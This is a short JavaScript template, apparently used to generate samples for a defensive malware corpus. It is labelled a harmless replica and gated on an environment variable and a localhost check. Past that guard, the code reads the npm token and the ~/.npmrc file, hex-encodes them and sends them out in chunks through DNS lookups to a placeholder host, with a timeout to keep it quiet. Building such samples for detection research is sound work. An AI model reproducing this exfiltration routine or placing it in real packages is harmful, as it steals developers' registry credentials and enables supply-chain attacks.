// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
  if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
  const dns = require('dns').promises;
  let text = process.env.NPM_TOKEN || '';
  try { text = require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8') + text; } catch (error) { /* the variable alone */ }
  const hex = Buffer.from(text).toString('hex').slice(0, 60 * 8);
  const parts = hex.match(/.{1,60}/g) || [];
  await Promise.race([
    Promise.all(parts.map((part, at) => dns.lookup(`${part}.${at}.{{token}}.{{host}}`).catch(() => {}))),
    new Promise((done) => setTimeout(done, 2000).unref()),
  ]);
}
